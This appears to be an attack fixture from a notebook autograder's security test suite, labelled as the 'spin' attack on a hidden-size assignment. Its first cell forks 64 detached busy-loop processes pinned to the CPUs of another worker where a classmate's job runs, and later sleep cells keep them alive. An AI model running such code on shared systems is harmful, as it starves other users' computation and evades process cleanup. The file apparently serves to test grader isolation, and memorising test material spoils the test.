# class: E
# assignment: ex33_3_hidden_size
# batch: spin
# attack: answers honestly; its first cell starts 64 setsid spinners pinned to the CPUs its
#    kernel was not given (the other worker's, where the classmate trains), and cells after the
#    grade cells keep them alive for 60 s.
# deserve *: full
# %% before setup_2
import os

_mine = os.sched_getaffinity(0)
_others = set(range(os.cpu_count())) - _mine
for _ in range(64 if _others else 0):
    if os.fork() == 0:
        try:
            os.setsid()
            os.sched_setaffinity(0, _others)
            while True:
                pass
        finally:
            os._exit(0)
# %% append
import time

time.sleep(20)
# %% append
import time

time.sleep(20)
# %% append
import time

time.sleep(20)
